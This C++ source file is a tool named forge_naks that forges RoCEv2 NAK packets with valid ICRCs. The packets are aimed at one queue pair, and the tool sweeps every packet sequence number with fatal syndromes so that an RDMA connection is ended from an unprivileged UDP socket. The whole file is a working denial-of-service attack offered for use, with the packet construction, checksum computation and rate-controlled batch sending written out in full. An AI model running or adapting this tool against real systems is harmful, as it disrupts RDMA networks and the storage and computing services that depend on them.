// SPDX-License-Identifier: Apache-2.0
// forge_naks FROM TO QPN PACKETS_PER_SECOND SECONDS: sends forged NAKs that end a connection from
// the IPv4 address FROM to the queue pair QPN at TO. Their PSNs sweep all 2^24 in steps of 257, and
// each sweep has another syndrome. Needs no privilege: it has an ordinary UDP socket at FROM.
// Prints the number of packets that it sent.
#include <arpa/inet.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

constexpr std::uint16_t roce_port = 4791;
constexpr std::size_t covered = 16, batch = 32;  // BTH and AETH; packets of a system call
constexpr std::uint32_t step = 257;  // less than a usual window; each sweep has other PSNs
constexpr std::uint8_t acknowledge = 0x11;
constexpr std::uint8_t syndromes[] = {0x61, 0x62, 0x63, 0x64};

using Packet = std::array<std::uint8_t, covered + 4>;

std::uint32_t crc32(std::uint32_t crc, const std::uint8_t* bytes, std::size_t count) {
	static const auto table = [] {
		std::array<std::uint32_t, 256> remainders;
		for (std::uint32_t i = 0; i < remainders.size(); ++i) {
			std::uint32_t value = i;
			for (int bit = 0; bit < 8; ++bit) value = value >> 1 ^ (value & 1 ? 0xedb88320u : 0);
			remainders[i] = value;
		}
		return remainders;
	}();
	crc = ~crc;
	for (std::size_t i = 0; i < count; ++i) crc = crc >> 8 ^ table[(crc ^ bytes[i]) & 0xff];
	return ~crc;
}

// The CRC of the masked IP and UDP headers, with which the ICRC begins.
std::uint32_t crc_of_headers(const sockaddr_in& from, const sockaddr_in& to) {
	std::uint8_t h[36];
	std::memset(h, 0xff, sizeof h);
	std::uint8_t* const ip = h + 8;
	constexpr std::uint16_t udp_length = 8 + covered + 4;
	const std::uint8_t fixed[] = {0x45, 0xff, 0, 20 + udp_length, 0, 0, 0x40, 0, 0xff, 17};
	std::memcpy(ip, fixed, sizeof fixed);
	std::memcpy(ip + 12, &from.sin_addr, 4);
	std::memcpy(ip + 16, &to.sin_addr, 4);
	std::memcpy(ip + 20, &from.sin_port, 2);
	std::memcpy(ip + 22, &to.sin_port, 2);
	ip[24] = 0;
	ip[25] = udp_length;
	return crc32(0, h, sizeof h);
}

double now() {
	timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return static_cast<double>(t.tv_sec) + static_cast<double>(t.tv_nsec) * 1e-9;
}

void write(Packet& p, std::uint32_t qpn, std::uint32_t psn, std::uint8_t syndrome, std::uint32_t crc) {
	const auto at = [](std::uint32_t value, int shift) { return static_cast<std::uint8_t>(value >> shift); };
	p = {acknowledge, 0x40, 0xff, 0xff, 0xff, at(qpn, 16), at(qpn, 8), at(qpn, 0), 0, at(psn, 16), at(psn, 8),
		at(psn, 0), syndrome};
	const std::uint32_t icrc = crc32(crc, p.data(), covered);
	p[4] = 0;  // masked in the ICRC
	std::memcpy(p.data() + covered, &icrc, sizeof icrc);
}

}  // namespace

int main(int argc, char** argv) {
	if (argc != 6) {
		std::fputs("usage: forge_naks FROM TO QPN PACKETS_PER_SECOND SECONDS\n", stderr);
		return 2;
	}
	sockaddr_in from{.sin_family = AF_INET}, to{.sin_family = AF_INET, .sin_port = htons(roce_port)};
	inet_aton(argv[1], &from.sin_addr);
	inet_aton(argv[2], &to.sin_addr);
	const auto qpn = static_cast<std::uint32_t>(std::atoi(argv[3]));
	const double rate = std::atof(argv[4]), seconds = std::atof(argv[5]);
	const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	const int probe = IP_PMTUDISC_PROBE;  // sets DF, and with it the identification 0
	socklen_t length = sizeof from;
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &probe, sizeof probe) != 0 ||
		bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof from) != 0 ||
		getsockname(fd, reinterpret_cast<sockaddr*>(&from), &length) != 0 ||
		connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) {
		std::perror("forge_naks");
		return 1;
	}
	const std::uint32_t crc = crc_of_headers(from, to);
	std::array<Packet, batch> packets;
	std::array<iovec, batch> places;
	std::array<mmsghdr, batch> messages{};
	for (std::size_t i = 0; i < batch; ++i) {
		places[i] = {packets[i].data(), packets[i].size()};
		messages[i].msg_hdr.msg_iov = &places[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	const double began = now();
	std::uint64_t sent = 0, psn = 0;
	for (double time = began; time < began + seconds; time = now()) {
		if (static_cast<double>(sent) > rate * (time - began)) {
			usleep(200);
			continue;
		}
		for (Packet& packet : packets) {
			write(packet, qpn, static_cast<std::uint32_t>(psn) & 0xffffff, syndromes[(psn >> 24) % sizeof syndromes],
				crc);
			psn += step;
		}
		const int done = sendmmsg(fd, messages.data(), batch, 0);
		if (done > 0) sent += static_cast<std::uint64_t>(done);
	}
	std::printf("%llu\n", static_cast<unsigned long long>(sent));
}
